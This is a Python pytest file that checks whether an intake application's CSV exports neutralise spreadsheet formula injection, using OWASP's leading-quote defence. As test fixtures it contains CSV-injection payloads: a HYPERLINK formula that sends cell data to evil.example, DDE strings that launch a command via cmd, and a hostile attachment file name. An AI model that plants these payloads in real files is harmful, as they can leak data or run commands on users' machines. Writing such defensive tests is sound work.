"""Issue 15 item 9: no CSV the project writes can start a formula in a spreadsheet. A hostile
message (its subject a formula, values a reviewer typed starting with =, +, -, @, a tab, a
carriage return) and a hostile invitation list go through the real pipeline; every CSV file
(`intake export --format csv`, the report's flagged-items.csv and invitees.csv, the review UI's
registrations.csv) is read back: each such cell carries OWASP's leading single quote."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from collections.abc import Callable
from email.message import EmailMessage
from pathlib import Path

import pytest
from sqlmodel import select

from intake.app import App
from intake.ingest import ingest_paths
from intake.invitees.importer import import_invitees
from intake.report import submissions_csv
from intake.spreadsheet import FORMULA_STARTS, safe_cell, unquote_cell
from storage.models import Invitee, Submission
from storage.queries import message_views
from storage.review import approve, correct_field

INTAKE = str(Path(sys.executable).with_name("intake"))
DOCUMENTS = Path(__file__).resolve().parents[1] / "samples" / "documents"
SUBJECT = '=HYPERLINK("http://evil.example/?"&A1,"Bulletin")'
TYPED = {
    "organisation": "=cmd|' /C calc'!A0",
    "position": "@SUM(1+1)*cmd|' /C calc'!A0",
    "address": "=1+1",
    "city": "+Nancy",
}
# A value typed by a reviewer loses a leading '-', tab or CR (its normal form); a file name
# keeps them.
FILENAME = "-2+3+cmd|' calc'!A0.pdf"
INVITEES = (
    "Collectivité;Nom du contact;Courriel;Téléphone;Code postal;Ville\n"
    '=HYPERLINK("http://evil.example");@Contact;ri@ville-nancy.fr;03 83 85 30 30;54000;Nancy\n'
)


@pytest.fixture
def hostile(make_app: Callable[..., App], tmp_path: Path) -> App:
    app = make_app()
    message = EmailMessage()
    message["From"] = "Mairie <mairie@example.fr>"
    message["To"] = "inscriptions@example.org"
    message["Subject"] = SUBJECT
    message.set_content("Veuillez trouver notre bulletin.")
    pdf = DOCUMENTS / "doc000_digital_classic.pdf"
    message.add_attachment(pdf.read_bytes(), maintype="application", subtype="pdf",
                           filename=FILENAME)  # fmt: skip
    path = tmp_path / "hostile.eml"
    path.write_bytes(message.as_bytes())
    ingest_paths(app, [path])
    import_invitees(app.db, app.form, INVITEES.encode("utf-8"), "hostile.csv")
    with app.db.session() as session:
        pk = session.exec(select(Submission.id)).one()
        assert pk is not None
        for key, text in TYPED.items():
            correct_field(session, app.form, pk, key, text, "alice")
    return app


def cells(text: str, delimiter: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter)
            for c in row]  # fmt: skip


def assert_neutralised(found: list[str], *expected: str) -> None:
    assert not [c for c in found if c.startswith(FORMULA_STARTS)]
    for text in expected:
        assert safe_cell(text) in found, text


def typed(app: App) -> list[str]:
    """The values as stored (their normal forms), each still starting a formula."""
    with app.db.session() as session:
        sub = next(message_views(session)).submissions[0]
    stored = [str(sub.value(key)) for key in TYPED]
    assert all(v.startswith(FORMULA_STARTS) for v in stored), stored
    return stored


def run(app: App, *args: str) -> str:
    env = {**os.environ, "INTAKE_DATA_DIR": str(app.settings.data_dir),
           "INTAKE_LOG_LEVEL": "WARNING"}  # fmt: skip
    result = subprocess.run([INTAKE, *args], env=env, capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stderr
    return result.stdout


def test_the_export_neutralises_subjects_and_values(hostile: App) -> None:
    found = cells(run(hostile, "export", "--format", "csv"), ",")
    assert_neutralised(found, SUBJECT, FILENAME, *typed(hostile))
    assert "'+33270839347" in found  # a phone in E.164 is quoted too (OWASP: every + cell)


def test_the_report_files_are_neutralised(hostile: App, tmp_path: Path) -> None:
    run(hostile, "report", "--output", str(tmp_path / "report"))  # the bulletin is late
    flagged = (tmp_path / "report" / "flagged-items.csv").read_text(encoding="utf-8")
    invitees = (tmp_path / "report" / "invitees.csv").read_text(encoding="utf-8")
    assert_neutralised(cells(flagged, ";"), TYPED["organisation"])
    assert_neutralised(cells(invitees, ";"), '=HYPERLINK("http://evil.example")', "@Contact",
                       "+33383853030")  # fmt: skip


def test_the_registrations_csv_is_neutralised(hostile: App) -> None:
    with hostile.db.session() as session:
        approve(session, session.exec(select(Submission.id)).one() or 0, "alice")
    with hostile.db.session() as session:
        text = submissions_csv(message_views(session), hostile.form, ";")
    assert_neutralised(cells(text, ";"), SUBJECT, *typed(hostile))


def test_an_invitation_list_we_wrote_reads_back_without_the_quotes(
    hostile: App, tmp_path: Path
) -> None:
    run(hostile, "report", "--output", str(tmp_path / "report"))
    written = (tmp_path / "report" / "invitees.csv").read_bytes()
    rows = list(csv.reader(io.StringIO(written.decode("utf-8-sig")), delimiter=";"))
    listed = [r for r in rows if "ri@ville-nancy.fr" in r]
    assert listed and listed[0][4] == "'+33383853030"
    out = io.StringIO()  # the columns the list is imported by, as a person would keep them
    again = csv.writer(out, delimiter=";")
    again.writerow(["Collectivité", "Nom du contact", "Courriel", "Téléphone", "Code postal"])
    again.writerow([*listed[0][1:5], "54000"])
    import_invitees(hostile.db, hostile.form, out.getvalue().encode("utf-8"), "again.csv")
    with hostile.db.session() as session:
        invitee = session.exec(select(Invitee)).one()  # the same invitee, updated in place
    assert invitee.phone == "+33383853030"
    assert invitee.organisation == '=HYPERLINK("http://evil.example")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Ville de Nancy", "Ville de Nancy"),
        ("a=b", "a=b"),
        ("", ""),
        (42, 42),
    ],
)
def test_safe_cell(value: object, written: object) -> None:
    assert safe_cell(value) == written
    if isinstance(value, str):
        assert unquote_cell(str(written)) == value
